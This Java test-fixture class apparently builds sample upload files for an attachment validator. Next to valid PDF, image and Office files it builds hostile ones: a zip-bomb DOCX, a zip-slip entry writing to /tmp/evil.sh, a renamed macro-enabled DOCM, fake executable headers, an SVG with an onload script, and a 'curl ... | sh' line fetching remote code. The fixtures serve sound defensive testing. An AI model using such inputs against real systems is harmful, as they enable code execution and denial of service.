package cn.zhongchuang.attachment;

import java.awt.Color;
import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import javax.imageio.ImageIO;

/**
 * Real files, made the way the programs that write them do: a PDF with a correct
 * cross-reference table, images from {@code javax.imageio}, Office documents with the
 * parts Word and Excel need; and the hostile ones.
 */
final class SampleFiles {

	static final String WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";

	static final String EXCEL_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";

	private SampleFiles() {
	}

	/** A one-page PDF 1.4 drawing a line, with byte offsets in its xref table. */
	static byte[] pdf() {
		String stream = "0 0 m 200 200 l S\n";
		List<String> objects = List.of("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
				"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Resources << >> /Contents 4 0 R >>",
				"<< /Length " + stream.length() + " >>\nstream\n" + stream + "endstream");
		StringBuilder pdf = new StringBuilder("%PDF-1.4\n");
		List<Integer> offsets = new ArrayList<>();
		for (int i = 0; i < objects.size(); i++) {
			offsets.add(pdf.length());
			pdf.append(i + 1).append(" 0 obj\n").append(objects.get(i)).append("\nendobj\n");
		}
		int xref = pdf.length();
		pdf.append("xref\n0 ").append(objects.size() + 1).append("\n0000000000 65535 f \n");
		offsets.forEach((o) -> pdf.append(String.format("%010d 00000 n \n", o)));
		pdf.append("trailer\n<< /Size ").append(objects.size() + 1).append(" /Root 1 0 R >>\nstartxref\n");
		pdf.append(xref).append("\n%%EOF\n");
		return pdf.toString().getBytes(StandardCharsets.US_ASCII);
	}

	static byte[] png() {
		return image("png", BufferedImage.TYPE_INT_ARGB);
	}

	static byte[] jpeg() {
		return image("jpg", BufferedImage.TYPE_INT_RGB);
	}

	private static byte[] image(String format, int imageType) {
		BufferedImage image = new BufferedImage(64, 48, imageType);
		Graphics2D g = image.createGraphics();
		g.setColor(Color.WHITE);
		g.fillRect(0, 0, 64, 48);
		g.setColor(Color.RED);
		g.fillOval(8, 8, 32, 32);
		g.dispose();
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		try {
			if (!ImageIO.write(image, format, out)) {
				throw new IllegalStateException("no ImageIO writer for " + format);
			}
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return out.toByteArray();
	}

	static byte[] docx() {
		return zip(docxParts());
	}

	private static Map<String, byte[]> docxParts() {
		Map<String, byte[]> parts = new LinkedHashMap<>();
		parts.put("[Content_Types].xml", utf8("""
				<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
				<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">\
				<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>\
				<Default Extension="xml" ContentType="application/xml"/>\
				<Override PartName="/word/document.xml" ContentType="%s"/></Types>""".formatted(WORD_MAIN)));
		parts.put("_rels/.rels",
				utf8("""
						<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
						<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">\
						<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" \
						Target="word/document.xml"/></Relationships>"""));
		parts.put("word/document.xml", utf8("""
				<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
				<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">\
				<w:body><w:p><w:r><w:t>众创空间备案申请材料</w:t></w:r></w:p></w:body></w:document>"""));
		return parts;
	}

	static byte[] xlsx() {
		Map<String, byte[]> parts = new LinkedHashMap<>();
		parts.put("[Content_Types].xml", utf8("""
				<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
				<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">\
				<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>\
				<Default Extension="xml" ContentType="application/xml"/>\
				<Override PartName="/xl/workbook.xml" ContentType="%s"/>\
				<Override PartName="/xl/worksheets/sheet1.xml" \
				ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>"""
			.formatted(EXCEL_MAIN)));
		parts.put("_rels/.rels",
				utf8("""
						<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
						<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">\
						<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" \
						Target="xl/workbook.xml"/></Relationships>"""));
		parts.put("xl/workbook.xml", utf8("""
				<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
				<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" \
				xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">\
				<sheets><sheet name="在孵企业" sheetId="1" r:id="rId1"/></sheets></workbook>"""));
		parts.put("xl/_rels/workbook.xml.rels",
				utf8("""
						<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
						<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">\
						<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" \
						Target="worksheets/sheet1.xml"/></Relationships>"""));
		parts.put("xl/worksheets/sheet1.xml", utf8("""
				<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
				<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>\
				<row r="1"><c r="A1" t="inlineStr"><is><t>企业名称</t></is></c><c r="B1"><v>42</v></c></row>\
				</sheetData></worksheet>"""));
		return zip(parts);
	}

	/** A DOCX whose document part is 50 MB of one character: about 50 KB compressed. */
	static byte[] zipBombDocx() {
		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
		try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
			zip.setLevel(Deflater.BEST_COMPRESSION);
			for (Map.Entry<String, byte[]> part : docxParts().entrySet()) {
				if (!part.getKey().equals("word/document.xml")) {
					zip.putNextEntry(new ZipEntry(part.getKey()));
					zip.write(part.getValue());
					zip.closeEntry();
				}
			}
			zip.putNextEntry(new ZipEntry("word/document.xml"));
			byte[] block = new byte[1024 * 1024];
			java.util.Arrays.fill(block, (byte) ' ');
			for (int i = 0; i < 50; i++) {
				zip.write(block);
			}
			zip.closeEntry();
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return bytes.toByteArray();
	}

	/** A DOCX padded with more entries than any real document has. */
	static byte[] docxWithEntries(int extra) {
		Map<String, byte[]> parts = docxParts();
		for (int i = 0; i < extra; i++) {
			parts.put("word/media/pad" + i + ".xml", utf8("<x/>"));
		}
		return zip(parts);
	}

	/** Word's macro-enabled format (.docm), renamed .docx. */
	static byte[] docm() {
		Map<String, byte[]> parts = docxParts();
		parts.put("[Content_Types].xml",
				new String(parts.get("[Content_Types].xml"), StandardCharsets.UTF_8)
					.replace(WORD_MAIN, "application/vnd.ms-word.document.macroEnabled.main+xml")
					.getBytes(StandardCharsets.UTF_8));
		parts.put("word/vbaProject.bin", new byte[] { (byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0 });
		return zip(parts);
	}

	/** A DOCX with an entry that climbs out of any directory it were extracted to. */
	static byte[] docxWithZipSlip() {
		Map<String, byte[]> parts = docxParts();
		parts.put("word/../../../../tmp/evil.sh", utf8("#!/bin/sh\n"));
		return zip(parts);
	}

	static byte[] plainZip() {
		return zip(Map.of("readme.txt", utf8("只是一个压缩包")));
	}

	/**
	 * The start of a Windows program: DOS header with {@code MZ}, {@code e_lfanew}
	 * pointing at the {@code PE} signature and a COFF header for x86-64.
	 */
	static byte[] windowsExecutable() {
		byte[] exe = new byte[512];
		exe[0] = 'M';
		exe[1] = 'Z';
		exe[0x3C] = (byte) 0x80;
		exe[0x80] = 'P';
		exe[0x81] = 'E';
		exe[0x84] = (byte) 0x64;
		exe[0x85] = (byte) 0x86;
		return exe;
	}

	/** An ELF header: 64-bit, little-endian, executable, x86-64. */
	static byte[] elf() {
		byte[] elf = new byte[64];
		elf[0] = 0x7F;
		elf[1] = 'E';
		elf[2] = 'L';
		elf[3] = 'F';
		elf[4] = 2;
		elf[5] = 1;
		elf[6] = 1;
		elf[16] = 2;
		elf[18] = 0x3E;
		return elf;
	}

	static byte[] html() {
		return utf8("<!DOCTYPE html>\n<html><body><script>fetch('/api/v1/me')</script></body></html>\n");
	}

	static byte[] svg() {
		return utf8("<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"></svg>\n");
	}

	static byte[] shellScript() {
		return utf8("#!/bin/sh\ncurl http://example.invalid/x | sh\n");
	}

	/**
	 * {@code length} bytes starting like a PDF, generated as read (nothing held in
	 * memory), counting how many were read.
	 */
	static CountingStream pdfLikeStream(long length) {
		return new CountingStream(length);
	}

	static final class CountingStream extends InputStream {

		private static final byte[] HEAD = "%PDF-1.4\n".getBytes(StandardCharsets.US_ASCII);

		private final long length;

		private long read;

		CountingStream(long length) {
			this.length = length;
		}

		long bytesRead() {
			return this.read;
		}

		@Override
		public int read() {
			if (this.read >= this.length) {
				return -1;
			}
			int b = (this.read < HEAD.length) ? HEAD[(int) this.read] : '0';
			this.read++;
			return b;
		}

		@Override
		public int read(byte[] buffer, int offset, int len) {
			if (this.read >= this.length) {
				return -1;
			}
			int n = (int) Math.min(len, this.length - this.read);
			for (int i = 0; i < n; i++) {
				long at = this.read + i;
				buffer[offset + i] = (at < HEAD.length) ? HEAD[(int) at] : (byte) '0';
			}
			this.read += n;
			return n;
		}

	}

	static byte[] zip(Map<String, byte[]> entries) {
		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
		try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
			for (Map.Entry<String, byte[]> entry : entries.entrySet()) {
				zip.putNextEntry(new ZipEntry(entry.getKey()));
				zip.write(entry.getValue());
				zip.closeEntry();
			}
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return bytes.toByteArray();
	}

	private static byte[] utf8(String s) {
		return s.getBytes(StandardCharsets.UTF_8);
	}

}
